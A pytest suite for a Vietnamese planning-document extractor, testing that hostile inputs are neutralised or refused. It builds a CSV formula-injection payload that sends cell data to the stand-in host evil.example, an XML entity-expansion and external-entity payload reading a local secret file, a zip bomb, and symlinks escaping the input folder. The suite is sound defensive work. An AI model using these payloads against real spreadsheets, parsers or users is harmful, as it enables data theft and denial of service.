"""Issue 12: hostile and careless inputs, made for real (real files, names, links, processes),
read by the real `chitieu extract` in a process of its own. Each test names the item of the
issue it closes."""
from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from conftest import PROSE_SEED, RAW, ROOT, TABLE_SEED
from chitieu.pipeline.datapackage import validate_package

OUTPUTS = ("targets.csv", "targets.parquet", "documents.csv", "documents.parquet", "datapackage.json", "report.html")
SEED_TXT = (RAW / f"{TABLE_SEED}.txt").read_text(encoding="utf-8")
FIRST_NAME = "Tốc độ tăng trưởng kinh tế (GRDP) tăng so với năm 2023"
FIRST_AGENCY = "Cục Thống kê tỉnh"


def chitieu(*args, **kwargs) -> subprocess.CompletedProcess:
    proc = subprocess.run([sys.executable, "-m", "chitieu.pipeline.cli", *map(str, args)], cwd=ROOT,
                          capture_output=True, text=True, timeout=600, **kwargs)
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def csv_rows(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def documents(out: Path) -> dict[str, dict]:
    return {row["source"]: row for row in csv_rows(out / "documents.csv")}


def outputs(out: Path) -> dict[str, bytes]:
    return {name: (out / name).read_bytes() for name in OUTPUTS}


def table_doc(path: Path, name: str = FIRST_NAME, agency: str = FIRST_AGENCY, target: str = "6,5-7,0") -> Path:
    """The seed table as text, its first row's name, agency and target replaced."""
    old = f"\t{FIRST_NAME}\n\t%\n\t6,5-7,0\n\t{FIRST_AGENCY}\n"
    assert old in SEED_TXT
    path.write_text(SEED_TXT.replace(old, f"\t{name}\n\t%\n\t{target}\n\t{agency}\n", 1), encoding="utf-8")
    return path


# ---------------------------------------------------------------------------- item 3


def test_3_formulas_are_neutralized_in_csv_and_kept_as_written_in_parquet(tmp_path):
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    link = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
    table_doc(raw / "=cmd.txt", name=link, agency="@SUM(1+1)")
    proc = chitieu("extract", raw, out)
    assert proc.returncode == 0, proc.stderr

    first = next(r for r in csv_rows(out / "targets.csv") if "HYPERLINK" in r["name"])
    assert (first["name"], first["agency"], first["source"]) == (f"'{link}", "'@SUM(1+1)", "'=cmd.txt")
    assert first["comparator"] == "between"
    free_text = ("source", "name", "agency", "target_text", "section_title", "unit_raw", "error", "title")
    assert all(not row[c].startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in csv_rows(out / "targets.csv") + csv_rows(out / "documents.csv")
               for c in free_text if c in row)
    parquet = next(r for r in pq.read_table(out / "targets.parquet").to_pylist() if "HYPERLINK" in r["name"])
    assert (parquet["name"], parquet["agency"], parquet["source"]) == (link, "@SUM(1+1)", "=cmd.txt")

    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert package["version"] == "2.4.0"
    assert "leading apostrophe" in package["description"]
    assert all("Parquet files keep every text as written" in r["description"] for r in package["resources"])
    assert validate_package(out) == []


def seeds(raw: Path, names=(f"{TABLE_SEED}.txt",)) -> None:
    raw.mkdir(parents=True, exist_ok=True)
    for name in names:
        shutil.copyfile(RAW / name, raw / name)


# ---------------------------------------------------------------------------- item 2


def test_2_a_number_of_400_digits_is_unparsed_not_inf(tmp_path):
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    table_doc(raw / "huge.txt", target="1" * 400)
    proc = chitieu("extract", raw, out)
    assert proc.returncode == 0, proc.stderr
    row = next(r for r in csv_rows(out / "targets.csv") if r["name"] == FIRST_NAME)
    assert (row["status"], row["value_low"], row["value_high"], row["comparator"]) == ("unparsed", "", "", "")
    assert "number_out_of_range" in row["notes"] and row["target_text"] == "1" * 400
    assert "inf" not in (out / "targets.csv").read_text(encoding="utf-8-sig").lower().split(",")
    assert documents(out)["huge.txt"]["unparsed"] == "1"
    assert validate_package(out) == []


def test_2_a_file_name_that_is_not_utf8_is_read_and_named_with_its_bytes(tmp_path):
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    name = os.fsdecode(b"k\xe9 ho\xe1ch.txt")  # Latin-1 bytes, as an old zip tool writes them
    shutil.copyfile(RAW / f"{TABLE_SEED}.txt", raw / name)
    proc = chitieu("extract", raw, out)
    assert proc.returncode == 0, proc.stderr
    assert documents(out)["k\\xe9 ho\\xe1ch.txt"]["status"] == "ok"
    assert {r["source"] for r in csv_rows(out / "targets.csv")} == {"k\\xe9 ho\\xe1ch.txt"}
    assert validate_package(out) == []


def too_long_path(raw: Path) -> str:
    """Folders nested under raw/ until their path is longer than the system allows (PATH_MAX),
    made relative to each other's descriptor; a file at the bottom. Returns the first folder."""
    part = "d" * 200
    fd = os.open(raw, os.O_RDONLY)
    length = len(str(raw))
    try:
        while length < 4200:
            os.mkdir(part, dir_fd=fd)
            inner = os.open(part, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd, length = inner, length + len(part) + 1
        with os.fdopen(os.open("plan.txt", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as f:
            f.write(SEED_TXT)
    finally:
        os.close(fd)
    return part


def test_2_a_path_longer_than_the_system_allows_is_a_failed_row(tmp_path):
    raw, out = tmp_path / "raw", tmp_path / "out"
    seeds(raw)
    too_long_path(raw)
    proc = chitieu("extract", raw, out)
    assert proc.returncode == 1, proc.stderr
    docs = documents(out)
    assert docs[f"{TABLE_SEED}.txt"]["status"] == "ok"
    (long_row,) = [d for s, d in docs.items() if s != f"{TABLE_SEED}.txt"]
    assert long_row["status"] == "failed"
    assert "File name too long" in long_row["error"] and "path is not too long" in long_row["error"]


def test_2_a_cache_entry_of_the_wrong_shape_is_read_again(tmp_path):
    raw, out = tmp_path / "raw", tmp_path / "out"
    seeds(raw, [f"{TABLE_SEED}.txt", f"{PROSE_SEED}.txt"])
    assert chitieu("extract", raw, out).returncode == 0
    before = outputs(out)
    entries = sorted((out / ".cache").glob("*/*.json"))
    assert len(entries) == 2
    entries[0].write_text(json.dumps({"document": {"source": 1}, "targets": "none"}), encoding="utf-8")
    data = json.loads(entries[1].read_text(encoding="utf-8"))
    data["targets"][0]["seq"] = "first"  # the right keys, a value of the wrong type
    entries[1].write_text(json.dumps(data), encoding="utf-8")
    (out / "targets.csv").unlink()  # so that the outputs are written again from the cache
    for _ in range(2):
        proc = chitieu("-v", "extract", raw, out)
        assert proc.returncode == 0, proc.stderr
        assert outputs(out) == before
    assert "not a cached result" not in proc.stderr  # the entries were put right by the first


# ---------------------------------------------------------------------------- item 4


@pytest.mark.parametrize("raw_kind", ["empty", "only hidden files"])
def test_4_an_empty_input_folder_leaves_the_outputs_alone(tmp_path, raw_kind):
    raw, out = tmp_path / "raw", tmp_path / "out"
    seeds(raw)
    assert chitieu("extract", raw, out).returncode == 0
    before = outputs(out)
    empty = tmp_path / "empty"
    empty.mkdir()
    if raw_kind == "only hidden files":
        (empty / ".DS_Store").write_bytes(b"\0")
    proc = chitieu("extract", empty, out)
    assert proc.returncode == 2
    assert proc.stderr == (
        f"chitieu: error: the input folder {empty} holds no documents (hidden files and corrections.csv "
        f"are not documents); check that it is the right folder. Nothing was written: the outputs in "
        f"{out} are unchanged\n")
    assert outputs(out) == before


# ---------------------------------------------------------------------------- item 5


def test_5_a_file_edited_to_the_same_size_and_time_is_read_again(tmp_path):
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    doc = table_doc(raw / "plan.txt", target="6,5-7,0")
    assert chitieu("extract", raw, out).returncode == 0
    st = doc.stat()
    table_doc(doc, target="6,5-7,5")  # the same length
    os.utime(doc, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert doc.stat().st_size == st.st_size and doc.stat().st_mtime_ns == st.st_mtime_ns
    proc = chitieu("-v", "extract", raw, out)
    assert proc.returncode == 0 and "plan.txt: read (" in proc.stderr
    row = next(r for r in csv_rows(out / "targets.csv") if r["name"] == FIRST_NAME)
    assert (row["value_low"], row["value_high"]) == ("6.5", "7.5")


# ---------------------------------------------------------------------------- item 6 and 9


def test_6_9_links_pipes_and_odd_entries_each_get_a_row_and_nothing_outside_is_read(tmp_path):
    raw, out, outside = tmp_path / "raw", tmp_path / "out", tmp_path / "secret"
    seeds(raw)
    outside.mkdir()
    table_doc(outside / "secret.txt", name="Bí mật ngoài thư mục")
    (raw / "outside.txt").symlink_to(outside / "secret.txt")
    (raw / "dangling.txt").symlink_to(tmp_path / "gone.txt")
    (raw / "folder-link").symlink_to(outside, target_is_directory=True)
    (raw / "inside.txt").symlink_to(raw / f"{TABLE_SEED}.txt")
    os.mkfifo(raw / "pipe.txt")
    proc = chitieu("extract", raw, out)
    assert proc.returncode == 1, proc.stderr
    docs = documents(out)
    assert docs["inside.txt"]["status"] == "ok"  # a link to a file inside raw/ is read
    expected = {
        "outside.txt": "a link to a file outside the input folder, which is not read",
        "dangling.txt": "a link to a file that does not exist",
        "folder-link": "a link to a folder, and links to folders are not followed",
        "pipe.txt": "it is a named pipe, not a file",
    }
    for source, words in expected.items():
        assert docs[source]["status"] == "failed" and words in docs[source]["error"], docs[source]
        assert docs[source]["error"].startswith(f"{source}: ")
    everything = b"".join(outputs(out).values()).decode("utf-8", "replace")
    assert "Bí mật" not in everything and str(outside) not in everything


# ---------------------------------------------------------------------------- item 9: the disk


def in_namespace(script: str, tmp_path: Path) -> subprocess.CompletedProcess:
    """Run a shell script as root of a user and mount namespace of its own, where it may
    mount a small or read-only file system (no privilege on the machine itself)."""
    if shutil.which("unshare") is None or subprocess.run(["unshare", "-rm", "true"]).returncode:
        pytest.skip("unshare -rm (user namespaces) is not available here")
    env = os.environ | {"PY": sys.executable}
    return subprocess.run(["unshare", "-rm", "sh", "-ec", script], cwd=ROOT, capture_output=True, text=True,
                          timeout=600, env=env)


def test_9_a_full_disk_exits_2_and_leaves_the_previous_outputs(tmp_path):
    raw, out, saved = tmp_path / "raw", tmp_path / "out", tmp_path / "saved"
    seeds(raw, [f"{TABLE_SEED}.txt", f"{PROSE_SEED}.txt"])
    out.mkdir()
    saved.mkdir()
    proc = in_namespace(f"""
        mount -t tmpfs -o size=4m tmpfs {out}
        "$PY" -m chitieu.pipeline.cli -q extract {raw} {out}
        cp {out}/*.* {saved}/
        dd if=/dev/zero of={out}/filler bs=64k 2>/dev/null || true
        echo "changed" >> {raw}/{PROSE_SEED}.txt
        set +e
        "$PY" -m chitieu.pipeline.cli -q extract {raw} {out} 2> {saved}/stderr
        echo $? > {saved}/status
        for f in {saved}/*.*; do cmp "$f" {out}/$(basename "$f"); done
        ls -a {out} > {saved}/listing
    """, tmp_path)
    assert proc.returncode == 0, proc.stderr
    stderr = (saved / "stderr").read_text()
    assert (saved / "status").read_text().strip() == "2", stderr
    assert stderr == (f"chitieu: error: the disk holding {out} is full (No space left on device); nothing was "
                      f"written and the previous outputs are unchanged: free some space and run again\n")
    assert ".tmp" not in (saved / "listing").read_text()


@pytest.mark.parametrize("where", ["out", "parent"])
def test_9_an_unwritable_out_exits_2_with_a_sentence(tmp_path, where):
    raw, parent = tmp_path / "raw", tmp_path / "ro"
    seeds(raw)
    parent.mkdir()
    out = parent if where == "out" else parent / "out"
    proc = in_namespace(f"""
        mount -t tmpfs -o ro tmpfs {parent}
        set +e
        "$PY" -m chitieu.pipeline.cli extract {raw} {out}
        echo "status $?"
    """, tmp_path)
    assert "Traceback" not in proc.stderr, proc.stderr
    assert proc.stdout == "status 2\n"
    assert proc.stderr == (f"chitieu: error: cannot write into the output folder {out} (Read-only file system); "
                           f"pass a folder you may write to\n")


# ---------------------------------------------------------------------------- item 7 and 9: limits


def docx_with_main_part(seed: Path, path: Path, main: bytes | None = None, padding: int = 0) -> Path:
    """The seed .docx with its word/document.xml replaced (`main`), or padded with `padding`
    bytes of spaces before its end, streamed so the test itself stays small."""
    import zipfile

    with zipfile.ZipFile(seed) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename != "word/document.xml":
                dst.writestr(info, data)
                continue
            data = main if main is not None else data
            with dst.open("word/document.xml", "w", force_zip64=True) as f:
                cut = data.rindex(b"</w:body>")
                f.write(data[:cut])
                block = b" " * (1024 * 1024)
                for _ in range(padding // len(block)):
                    f.write(block)
                f.write(data[cut:])
    return path


def max_rss_mb_of(args: list[str]) -> tuple[subprocess.CompletedProcess, float]:
    """Run the command and give the peak memory of the largest process it ran."""
    code = ("import resource, subprocess, sys; p = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
            "sys.stdout.write(repr((p.returncode, p.stdout, p.stderr, "
            "resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)))")
    proc = subprocess.run([sys.executable, "-c", code, *args], cwd=ROOT, capture_output=True, text=True, timeout=600)
    status, stdout, stderr, rss_kb = eval(proc.stdout)
    return subprocess.CompletedProcess(args, status, stdout, stderr), rss_kb / 1024


@pytest.mark.parametrize("padding,what", [
    (1024, "its parts would unpack to 1.0 GB, over the limit of 256.0 MB"),
    (100, "its part word/document.xml would unpack to 100.0 MB, over the limit of 64.0 MB"),
], ids=["1 GB", "100 MB"])
def test_7_a_docx_that_unpacks_to_a_gigabyte_fails_without_taking_the_memory(tmp_path, padding, what):
    raw, out = tmp_path / "raw", tmp_path / "out"
    seeds(raw)
    bomb = docx_with_main_part(RAW / f"{TABLE_SEED}.docx", raw / "bomb.docx", padding=padding * 1024 * 1024)
    assert bomb.stat().st_size < 3 * 1024 * 1024
    proc, peak = max_rss_mb_of([sys.executable, "-m", "chitieu.pipeline.cli", "extract", str(raw), str(out)])
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    error = documents(out)["bomb.docx"]["error"]
    assert error.startswith(f"bomb.docx: the file is not an ordinary document: {what} (a zip bomb"), error
    assert peak < 400, f"{peak:.0f} MB"
    assert documents(out)[f"{TABLE_SEED}.txt"]["status"] == "ok"


def test_7_xml_entities_are_not_expanded_nor_fetched(tmp_path):
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("MẬT KHẨU 12345", encoding="utf-8")
    import zipfile

    with zipfile.ZipFile(RAW / f"{TABLE_SEED}.docx") as z:
        xml = z.read("word/document.xml")
    start = xml.index(b"?>") + 2
    doctype = (b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
               b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">'
               b'<!ENTITY x SYSTEM "file://' + str(secret).encode() + b'">]>')
    body = xml.index(b"<w:body>") + len(b"<w:body>")
    hostile = xml[:start] + doctype + xml[start:body] + b"<w:p><w:r><w:t>&d;&x;</w:t></w:r></w:p>" + xml[body:]
    docx_with_main_part(RAW / f"{TABLE_SEED}.docx", raw / "entities.docx", main=hostile)
    proc = chitieu("extract", raw, out)
    assert "Traceback" not in proc.stderr
    everything = b"".join(outputs(out).values()).decode("utf-8", "replace")
    assert "MẬT KHẨU" not in everything and "a" * 64 not in everything


@pytest.mark.parametrize("name,make,words", [
    ("plan.txt", lambda p: shutil.copyfile(RAW / f"{TABLE_SEED}.docx", p),
     "the file is a zip archive (a Word .docx, an Excel .xlsx or an OpenDocument file), not plain text; "
     "give it its right extension"),
    ("scan.txt", lambda p: shutil.copyfile(RAW / f"{TABLE_SEED}.pdf", p), "the file is a PDF, not plain text; give it its right extension"),
    ("huge.txt", lambda p: p.write_text(SEED_TXT * 700, encoding="utf-8"),
     "the text is 4.5 MB, more than the 4.0 MB chitieu reads; check that this is a planning document, or split it"),
])
def test_9_a_txt_that_is_another_format_or_too_long_is_called_what_it_is(tmp_path, name, make, words):
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    make(raw / name)
    proc = chitieu("extract", raw, out)
    assert proc.returncode == 1
    assert documents(out)[name]["error"] == f"{name}: {words}"


# ---------------------------------------------------------------------------- item 9: corrections


def corrections_run(tmp_path, lines: list[str]) -> tuple[subprocess.CompletedProcess, Path]:
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    table_doc(raw / "plan.txt")
    text = "source,seq,name,field,value,note\n" + "".join(f"{line}\n" for line in lines)
    (raw / "corrections.csv").write_text(text, encoding="utf-8")
    return chitieu("extract", raw, out), out


def test_9_a_correction_that_puts_low_above_high_is_held_back(tmp_path):
    proc, out = corrections_run(tmp_path, [f"plan.txt,1,{FIRST_NAME},value_low,9.5,"])
    assert proc.returncode == 0
    assert ("stale correction (line 2): Setting value_low of target 1 of plan.txt to 9.5 would put value_low "
            "above value_high; correct both bounds, or check the value.") in proc.stderr
    row = next(r for r in csv_rows(out / "targets.csv") if r["name"] == FIRST_NAME)
    assert (row["value_low"], row["value_high"]) == ("6.5", "7")


def test_9_both_bounds_corrected_together_may_move_past_each_other(tmp_path):
    proc, out = corrections_run(tmp_path, [f"plan.txt,1,{FIRST_NAME},value_low,9.5,",
                                           f"plan.txt,1,{FIRST_NAME},value_high,10,"])
    assert proc.returncode == 0 and "stale" not in proc.stderr
    row = next(r for r in csv_rows(out / "targets.csv") if r["name"] == FIRST_NAME)
    assert (row["value_low"], row["value_high"]) == ("9.5", "10")


@pytest.mark.parametrize("value,message", [
    ('"=HYPERLINK(""http://x"")"', "line 2: value '=HYPERLINK(\"http://x\")' for agency begins with '=', which a "
                                   "spreadsheet runs as a formula; write the text without it"),
    ("x" * 3000, "line 2: value is 3,000 characters long, more than the 2,000 a correction holds"),
    ("x" * 140_000, "line 2: field larger than field limit (131072); check that this is the corrections file"),
], ids=["formula", "3000 characters", "128 KB"])
def test_9_a_correction_with_a_formula_or_a_huge_value_stops_the_run_with_its_line(tmp_path, value, message):
    proc, out = corrections_run(tmp_path, [f"plan.txt,1,{FIRST_NAME},agency,{value},"])
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert message in proc.stderr, proc.stderr
    assert not (out / "targets.csv").exists()


# ---------------------------------------------------------------------------- acceptance: fuzzing

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

TARGET_ALPHABET = st.sampled_from(list("0123456789,.-–% ") + ["Trên ", "dưới ", "từ ", " trở lên", "khoảng ",
                                                               "tăng ", "giảm ", "so với năm 2023", "‰", "tỷ đồng"])


@pytest.mark.parametrize("data", [b"\xfe\xff\x00\x00\x00\x00\x00\x00\x00",  # hypothesis found it: an odd byte
                                  "Chỉ tiêu".encode("utf-16-le")[:-1].join([b"\xff\xfe", b""]),
                                  b"\xff\xfe\x00\xd8a\x00"])  # a surrogate without its pair
def test_a_utf16_text_cut_short_fails_with_its_sentence(tmp_path, data):
    from chitieu.parsers.formats.txt import read_txt
    from chitieu.parsers.model import UnreadableDocument

    path = tmp_path / "doc.txt"
    path.write_bytes(data)
    with pytest.raises(UnreadableDocument, match="says it is UTF-16 but is broken at byte"):
        read_txt(path)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000) | st.text(max_size=2000).map(lambda t: t.encode("utf-8")))
def test_the_txt_reader_never_crashes(tmp_path_factory, data):
    from chitieu.parsers.formats.txt import read_txt
    from chitieu.parsers.model import UnreadableDocument

    path = tmp_path_factory.mktemp("fuzz") / "doc.txt"
    path.write_bytes(data)
    try:
        read_txt(path)
    except UnreadableDocument:
        pass


@settings(max_examples=500, deadline=None)
@given(st.lists(TARGET_ALPHABET, max_size=12).map("".join), st.sampled_from(["%", "tỷ đồng", "1.000 tỷ đồng", ""]))
def test_parse_target_never_crashes(text, unit):
    from chitieu.normalizers.targets import parse_target

    parse_target(text, unit=unit)


@settings(max_examples=200, deadline=None)
@given(st.integers(min_value=300, max_value=400), st.sampled_from(["%", "1.000 tỷ đồng"]))
def test_parse_target_never_gives_an_infinite_value(digits, unit):
    import math

    from chitieu.normalizers.targets import parse_target

    t = parse_target("9" * digits, unit=unit)
    assert all(b is None or math.isfinite(b.value) for b in (t.low, t.high))
